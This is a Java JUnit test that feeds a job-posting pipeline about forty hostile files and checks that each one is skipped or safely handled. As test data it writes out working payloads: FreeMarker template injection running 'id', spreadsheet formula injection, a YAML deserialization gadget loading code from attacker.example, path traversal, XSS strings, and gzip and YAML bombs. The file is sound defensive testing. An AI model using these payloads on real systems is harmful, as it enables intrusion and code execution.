package dev.tailor.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tailor.TailorApplication;
import dev.tailor.cli.TailorCli;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * One run over a folder of hostile postings beside two good ones: every bad file is skipped or handled with its
 * reason recorded, nothing executes, no output escapes its folder, and the good postings get their letters.
 */
class HostilePostingsTest {
    private static final String GOOD_HTML = "ledgerline-senior-backend-engineer-payments.html";
    private static final String GOOD_MD = "tramline-backend-engineer-kotlin.md";
    private static final String BODY = """
            We run the payment rails for 4,000 small shops and need a backend engineer to keep them fast.

            ## What you will do
            - Build services in Java and Spring Boot that settle payments every night.
            - Keep PostgreSQL queries fast as volumes grow.

            ## What you bring
            - 4+ years of experience with Java and PostgreSQL.
            - Experience with Kafka or another message broker.

            ## Nice to have
            - Terraform is a plus.
            """;

    private static final List<String> WORDS = List.of("ledger", "harbour", "invoice", "cargo", "timetable",
            "warehouse", "clinic", "season", "tariff", "parcel", "meter", "route", "contract", "voucher", "basket",
            "refund", "schedule", "fleet", "branch", "policy", "claim", "ticket", "orchard", "bakery", "quarry");

    @TempDir
    static Path root;

    private static SampleWorkspace workspace;
    private static int exitCode;
    private static String output;
    private static Map<String, JsonNode> bySource;

    @BeforeAll
    static void runOverHostileFolder() throws Exception {
        workspace = SampleWorkspace.copyInto(root);
        try (Stream<Path> files = Files.list(workspace.postings())) {
            for (Path file : files.toList()) {
                String name = file.getFileName().toString();
                if (!name.equals(GOOD_HTML) && !name.equals(GOOD_MD)) {
                    Files.delete(file);
                }
            }
        }
        writeHostileFiles(workspace.postings());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PrintStream print = new PrintStream(out, true, StandardCharsets.UTF_8);
        exitCode = new TailorCli(print, print, Clock.systemDefaultZone(), new PipelineLauncher(TailorApplication.class))
                .execute(workspace.runArgs());
        output = out.toString(StandardCharsets.UTF_8);
        bySource = new HashMap<>();
        JsonMapper json = JsonMapper.builder().build();
        for (String line : Files.readAllLines(workspace.out().resolve("postings.jsonl"))) {
            JsonNode node = json.readTree(line);
            String source = node.get("source").asString();
            bySource.put(source.substring(source.lastIndexOf('/') + 1), node);
        }
    }

    private static List<String> hostileNames() throws IOException {
        List<String> names = new ArrayList<>();
        try (Stream<Path> files = Files.list(workspace.postings())) {
            files.map(f -> f.getFileName().toString())
                    .filter(n -> !n.equals(GOOD_HTML) && !n.equals(GOOD_MD) && !n.startsWith("."))
                    .forEach(names::add);
        }
        return names;
    }

    @Test
    void theRunCompletes() {
        assertThat(exitCode).as(output).isZero();
    }

    @Test
    void everyFileReadIsWrittenOrSkipped() throws IOException {
        JsonNode step = JsonMapper.builder().build()
                .readTree(Files.readString(workspace.out().resolve("last-run.json"))).get("step");

        assertThat(step.get("read").asLong()).isEqualTo(hostileNames().size() + 2L)
                .isEqualTo(step.get("written").asLong() + step.get("skipped").asLong() + step.get("filtered").asLong());
    }

    @Test
    void atLeastFortyHostileInputsWereTried() throws IOException {
        assertThat(hostileNames()).hasSizeGreaterThanOrEqualTo(40);
    }

    @Test
    void everyFileIsAccountedForOnceWithAReasonWhenNotDone() throws IOException {
        for (String name : hostileNames()) {
            JsonNode line = bySource.get(name);
            assertThat(line).as(name).isNotNull();
            String status = line.get("status").asString();
            assertThat(status).as(name).isIn("DONE", "SKIPPED", "FAILED");
            if (!status.equals("DONE")) {
                assertThat(line.get("reason").asString()).as(name).isNotBlank();
            }
        }
        assertThat(bySource).hasSize(hostileNames().size() + 2);
    }

    @Test
    void theGoodPostingsStillGetTheirLetters() {
        for (String good : List.of(GOOD_HTML, GOOD_MD)) {
            JsonNode line = bySource.get(good);
            assertThat(line.get("status").asString()).as(good).isEqualTo("DONE");
            assertThat(workspace.out().resolve(line.get("letter").asString())).isNotEmptyFile();
        }
    }

    @Test
    void filesThatHoldNoPostingAreSkipped() {
        for (String name : List.of("empty.html", "empty.txt", "whitespace.md", "binary.html", "nul-filled.txt",
                "huge-50mb.html", "gzip-bomb.html", "script-only.html", "style-only.html", "sign-in-wall.html",
                "unsupported.pdf", "no-extension", "title-only.html", "nul-in-the-middle.txt", "utf16-without-bom.txt")) {
            assertThat(bySource.get(name).get("status").asString()).as(name).isEqualTo("SKIPPED");
        }
        assertThat(bySource.get("huge-50mb.html").get("reason").asString()).contains("MB");
    }

    @Test
    void templateSyntaxInPostingTextIsPrintedNeverRun() throws IOException {
        for (String name : List.of("freemarker-expression.md", "freemarker-directive.txt", "freemarker-new.md")) {
            JsonNode line = bySource.get(name);
            assertThat(line.get("status").asString()).as(name).isEqualTo("DONE");
            String letter = Files.readString(workspace.out().resolve(line.get("letter").asString()));
            assertThat(letter).as(name).doesNotContain("uid=").doesNotContain("root:x:0:0");
        }
        String expression = Files.readString(workspace.out().resolve(
                bySource.get("freemarker-expression.md").get("letter").asString()));
        assertThat(expression).contains("${7*7}").doesNotContain("Dear 49");
    }

    @Test
    void letterFilesStayInTheLettersFolderWithPlainNames() throws IOException {
        Path letters = workspace.out().resolve("letters");
        try (Stream<Path> all = Files.walk(workspace.root())) {
            for (Path file : all.filter(Files::isRegularFile).toList()) {
                String name = file.getFileName().toString();
                if (name.endsWith(".docx") || (name.endsWith(".md") && file.startsWith(workspace.out()))) {
                    assertThat(file.getParent()).as(name).isEqualTo(letters);
                    assertThat(name).as(name).matches("[a-z0-9-]+\\.(md|html|docx)");
                }
            }
        }
        for (String name : List.of("company-path-traversal.md", "company-reserved-names.md", "company-rtl-override.md")) {
            assertThat(bySource.get(name).get("status").asString()).as(name).isEqualTo("DONE");
        }
    }

    @Test
    void formulasInTitlesAndCompaniesStayText() throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(workspace.out().resolve("summary.xlsx").toFile())) {
            int found = 0;
            for (Row row : workbook.getSheet("Postings")) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING) {
                        String text = cell.getStringCellValue();
                        if (text.startsWith("=") || text.startsWith("+") || text.startsWith("@")) {
                            found++;
                        }
                    } else if (cell.getCellType() == CellType.FORMULA) {
                        // The only formulas tailor writes are its own links to letters and postings.
                        assertThat(cell.getCellFormula()).startsWith("HYPERLINK(");
                        assertThat(cell.getCellFormula()).doesNotContain("javascript:").doesNotContain("file:");
                    }
                }
            }
            assertThat(found).as("formula-looking titles and companies stored as text").isGreaterThanOrEqualTo(3);
        }
    }

    @Test
    void controlCharactersNeverReachTheOutputs() throws IOException {
        String jsonl = Files.readString(workspace.out().resolve("postings.jsonl"));
        for (char c = 0; c < 0x20; c++) {
            if (c != '\n') {
                assertThat(jsonl.indexOf(c)).as("raw control character %d in postings.jsonl", (int) c).isNegative();
            }
        }
    }

    private static void writeHostileFiles(Path dir) throws IOException {
        Random random = new Random(42);
        Files.write(dir.resolve("empty.html"), new byte[0]);
        Files.write(dir.resolve("empty.txt"), new byte[0]);
        Files.writeString(dir.resolve("whitespace.md"), " \n\t\n   \n");
        byte[] binary = new byte[64 * 1024];
        random.nextBytes(binary);
        Files.write(dir.resolve("binary.html"), binary);
        Files.write(dir.resolve("nul-filled.txt"), new byte[16 * 1024]);
        Files.writeString(dir.resolve("nul-in-the-middle.txt"), "Backend Engineer\nCompany: Nullco\n\n" + body("nul-in-the-middle.txt")
                + "\u0000\u0000" + body("nul-in-the-middle.txt"));
        writeLarge(dir.resolve("huge-50mb.html"), 50L * 1024 * 1024);
        writeGzipBomb(dir.resolve("gzip-bomb.html"), 200L * 1024 * 1024);
        writeGzipBomb(dir.resolve("gzip-bomb.html.gz"), 50L * 1024 * 1024);
        Files.writeString(dir.resolve("nested-10000.html"), "<html><head><title>Backend Engineer at Deepco</title>"
                + "</head><body>" + "<div>".repeat(10_000) + html(body("nested-10000.html")) + "</div>".repeat(10_000) + "</body></html>");
        Files.writeString(dir.resolve("nested-unclosed-10000.html"), "<html><body>" + "<span><b><i>".repeat(10_000)
                + "Engineer at Openco</body>");
        Files.write(dir.resolve("invalid-utf8.txt"), concat(("Backend Engineer\nCompany: Bytebrook\n\n" + body("invalid-utf8.txt"))
                .getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, 0x28, (byte) 0xA0, (byte) 0xA1, '\n'}));
        Files.write(dir.resolve("lone-surrogate.md"), concat(("---\ntitle: Backend Engineer\ncompany: Surrogate Labs\n"
                + "---\n" + body("lone-surrogate.md")).getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}));
        Files.write(dir.resolve("bom-vs-meta-charset.html"), concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                page("Backend Engineer – Café Größe", "Café Größe", body("bom-vs-meta-charset.html"), "<meta charset=\"windows-1252\">")
                        .getBytes(StandardCharsets.UTF_8)));
        Files.write(dir.resolve("windows-1252-no-meta.html"), page("Backend Engineer – Crème Brûlée Systems",
                "Crème Brûlée Systems", body("windows-1252-no-meta.html"), "").getBytes(Charset.forName("windows-1252")));
        Files.write(dir.resolve("utf16-without-bom.txt"), ("Backend Engineer\nCompany: Widechar\n\n" + body("utf16-without-bom.txt"))
                .getBytes(StandardCharsets.UTF_16LE));
        Files.writeString(dir.resolve("script-only.html"), "<html><head><script>" + "var x = 1;\n".repeat(5000)
                + "</script></head><body><script>document.write('Engineer at Scriptco')</script></body></html>");
        Files.writeString(dir.resolve("style-only.html"), "<html><head><style>" + "p{color:red}\n".repeat(5000)
                + "</style></head><body></body></html>");
        Files.writeString(dir.resolve("huge-attribute.html"), "<html><head><title>Backend Engineer at Attrco</title>"
                + "</head><body><div data-x=\"" + "A".repeat(4 * 1024 * 1024) + "\">" + html(body("huge-attribute.html")) + "</div></body></html>");
        StringBuilder many = new StringBuilder("<div");
        for (int i = 0; i < 50_000; i++) {
            many.append(" a").append(i).append("=\"").append(i).append('"');
        }
        Files.writeString(dir.resolve("many-attributes.html"), page("Backend Engineer – Manyattr", "Manyattr", body("many-attributes.html"),
                "") .replace("<body>", "<body>" + many + "></div>"));
        StringBuilder thousands = new StringBuilder("[");
        for (int i = 0; i < 10_000; i++) {
            thousands.append(i == 0 ? "" : ",").append("{\"@context\":\"https://schema.org\",\"@type\":\"JobPosting\","
                    + "\"title\":\"Engineer ").append(i).append("\",\"hiringOrganization\":{\"name\":\"Listco\"},"
                    + "\"description\":\"<p>We build things.</p>\"}");
        }
        Files.writeString(dir.resolve("jsonld-10000-entries.html"), page("Backend Engineer – Listco", "Listco", body("jsonld-10000-entries.html"),
                "<script type=\"application/ld+json\">" + thousands + "]</script>"));
        Files.writeString(dir.resolve("jsonld-broken.html"), page("Backend Engineer – Brokenld", "Brokenld", body("jsonld-broken.html"),
                "<script type=\"application/ld+json\">{\"@type\": \"JobPosting\", \"title\": \"Backend Eng</script>"));
        Files.writeString(dir.resolve("jsonld-deep.html"), page("Backend Engineer – Deepld", "Deepld", body("jsonld-deep.html"),
                "<script type=\"application/ld+json\">" + "[".repeat(20_000) + "]".repeat(20_000) + "</script>"));
        Files.writeString(dir.resolve("freemarker-expression.md"), "---\ntitle: ${7*7} Engineer\ncompany: Dollar "
                + "Brace Ltd\n---\n" + body("freemarker-expression.md") + "\n- Knowing ${7*7} and ${.now} is a plus.\n");
        Files.writeString(dir.resolve("freemarker-directive.txt"), "Backend Engineer\nCompany: <#include \"/etc/passwd\">"
                + "\n\n" + body("freemarker-directive.txt") + "\n<#assign x = \"freemarker.template.utility.Execute\"?new()>${x(\"id\")}\n");
        Files.writeString(dir.resolve("freemarker-new.md"), "---\ntitle: Backend Engineer\ncompany: "
                + "\"${'freemarker.template.utility.Execute'?new()('id')}\"\n---\n" + body("freemarker-new.md"));
        Files.writeString(dir.resolve("formula-title.md"), "---\ntitle: \"=HYPERLINK(\\\"http://attacker.example\\\","
                + "\\\"Click\\\")\"\ncompany: Formulaco\n---\n" + body("formula-title.md"));
        Files.writeString(dir.resolve("formula-company.txt"), "Backend Engineer\nCompany: +cmd|' /C calc'!A0\n\n" + body("formula-company.txt"));
        Files.writeString(dir.resolve("formula-at.txt"), "Backend Engineer\nCompany: @SUM(1+1)*cmd|' /C calc'!A0\n\n"
                + body("formula-at.txt"));
        Files.writeString(dir.resolve("formula-minus.md"), "---\ntitle: \"-2+3 Engineer\"\ncompany: Minusco\n---\n"
                + body("formula-minus.md"));
        Files.writeString(dir.resolve("company-path-traversal.md"), "---\ntitle: Backend Engineer\ncompany: "
                + "\"../../../../etc/passwd\"\n---\n" + body("company-path-traversal.md"));
        Files.writeString(dir.resolve("company-reserved-names.md"), "---\ntitle: NUL\ncompany: CON\n---\n" + body("company-reserved-names.md"));
        Files.writeString(dir.resolve("company-rtl-override.md"), "---\ntitle: Backend Engineer\ncompany: "
                + "\"Acme\u202Egnp.exe\"\n---\n" + body("company-rtl-override.md"));
        Files.writeString(dir.resolve("control-characters.md"), "---\ntitle: \"Backend\\x07 Engineer\\e[31m\"\n"
                + "company: \"Bell\\x01co\"\n---\n" + body("control-characters.md").replace("payment", "pay\u0008ment\u001B[2J"));
        Files.writeString(dir.resolve("javascript-links.html"), page("Backend Engineer – Linkco", "Linkco",
                body("javascript-links.html") + "\n<a href=\"javascript:alert(document.cookie)\">Apply</a>",
                "<link rel=\"canonical\" href=\"javascript:alert(1)\"><meta property=\"og:url\" content=\"javascript:alert(2)\">"));
        Files.writeString(dir.resolve("file-links.html"), page("Backend Engineer – Fileco", "Fileco",
                body("file-links.html") + "\n<a href=\"file:///etc/passwd\">Apply</a>", "<script type=\"application/ld+json\">"
                        + "{\"@type\":\"JobPosting\",\"title\":\"Backend Engineer\",\"url\":\"file:///etc/passwd\","
                        + "\"hiringOrganization\":{\"name\":\"Fileco\"},\"description\":\"" + body("file-links.html").replace("\n", "<br>")
                        + "\"}</script>"));
        Files.writeString(dir.resolve("sign-in-wall.html"), "<html><head><title>Sign in</title></head><body><nav>Jobs"
                + "</nav><h1>Sign in to see this job</h1><form><input name=\"email\"><input type=\"password\"></form>"
                + "<footer>© Board</footer></body></html>");
        Files.writeString(dir.resolve("title-only.html"), "<html><head><title>Engineer at Shortco</title></head>"
                + "<body><h1>Engineer</h1></body></html>");
        Files.writeString(dir.resolve("truncated.html"), page("Backend Engineer – Cutco", "Cutco", body("truncated.html"), "")
                .substring(0, 500));
        Files.writeString(dir.resolve("search-results.html"), "<html><head><title>42 jobs found</title></head><body>"
                + "<h1>Search results</h1><ul>" + "<li><a href=\"/j/1\">Engineer at A</a> · Remote</li>".repeat(40)
                + "</ul></body></html>");
        Files.writeString(dir.resolve("very-long-title.md"), "---\ntitle: \"" + "Senior ".repeat(2000) + "Engineer\"\n"
                + "company: Longco\n---\n" + body("very-long-title.md"));
        Files.writeString(dir.resolve("emoji-and-cjk.md"), "---\ntitle: バックエンドエンジニア 🚀\ncompany: 株式会社サンプル\n---\n"
                + body("emoji-and-cjk.md"));
        Files.writeString(dir.resolve("unsupported.pdf"), "%PDF-1.4\n% not really a pdf\n");
        Files.writeString(dir.resolve("no-extension"), "Backend Engineer\nCompany: Noext\n\n" + body("no-extension"));
        Files.writeString(dir.resolve("list-payload.json"), "[{\"title\":\"Engineer\"},{\"title\":\"Designer\"}]");
        Files.writeString(dir.resolve("broken.json"), "{\"title\": \"Engineer\", ");
        Files.writeString(dir.resolve("yaml-bomb.md"), "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n"
                + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\n"
                + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f]\ntitle: Engineer\ncompany: Bombco\n---\n"
                + body("yaml-bomb.md"));
        Files.writeString(dir.resolve("front-matter-java-tag.md"), "---\ntitle: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\ncompany: Tagco\n---\n"
                + body("front-matter-java-tag.md"));
        Files.writeString(dir.resolve("html-in-txt.txt"), "<script>alert(1)</script> Engineer\nCompany: <img src=x "
                + "onerror=alert(1)>\n\n" + body("html-in-txt.txt"));
        Files.writeString(dir.resolve("crlf-line-endings.txt"), ("Backend Engineer\nCompany: Crlfco\n\n" + body("crlf-line-endings.txt"))
                .replace("\n", "\r\n"));
    }

    /**
     * The common posting text plus a paragraph of its own, so that no two hostile postings are near-identical
     * (the run would rightly record all but the first as duplicates).
     */
    private static String body(String name) {
        Random random = new Random(name.hashCode());
        StringBuilder own = new StringBuilder("\n");
        for (int i = 0; i < 160; i++) {
            own.append(WORDS.get(random.nextInt(WORDS.size()))).append(i % 12 == 11 ? ".\n" : " ");
        }
        return BODY + own;
    }

    private static String page(String title, String company, String body, String head) {
        return "<!DOCTYPE html><html><head>" + head + "<title>" + title + "</title><meta property=\"og:site_name\" "
                + "content=\"" + company + "\"></head><body><main><h1>" + title.split(" – ")[0] + "</h1>" + html(body)
                + "</main></body></html>";
    }

    private static String html(String markdown) {
        StringBuilder out = new StringBuilder();
        for (String line : markdown.split("\n")) {
            if (line.startsWith("## ")) {
                out.append("<h2>").append(line.substring(3)).append("</h2>");
            } else if (line.startsWith("- ")) {
                out.append("<li>").append(line.substring(2)).append("</li>");
            } else if (!line.isBlank()) {
                out.append("<p>").append(line).append("</p>");
            }
        }
        return out.toString();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    private static void writeLarge(Path file, long size) throws IOException {
        String chunk = "<p>" + "padding ".repeat(127) + "</p>\n";
        byte[] bytes = chunk.getBytes(StandardCharsets.UTF_8);
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write("<html><head><title>Backend Engineer at Bigco</title></head><body>".getBytes(StandardCharsets.UTF_8));
            for (long written = 0; written < size; written += bytes.length) {
                out.write(bytes);
            }
            out.write("</body></html>".getBytes(StandardCharsets.UTF_8));
        }
    }

    private static void writeGzipBomb(Path file, long uncompressed) throws IOException {
        byte[] zeros = new byte[1024 * 1024];
        try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(file))) {
            for (long written = 0; written < uncompressed; written += zeros.length) {
                out.write(zeros);
            }
        }
    }
}
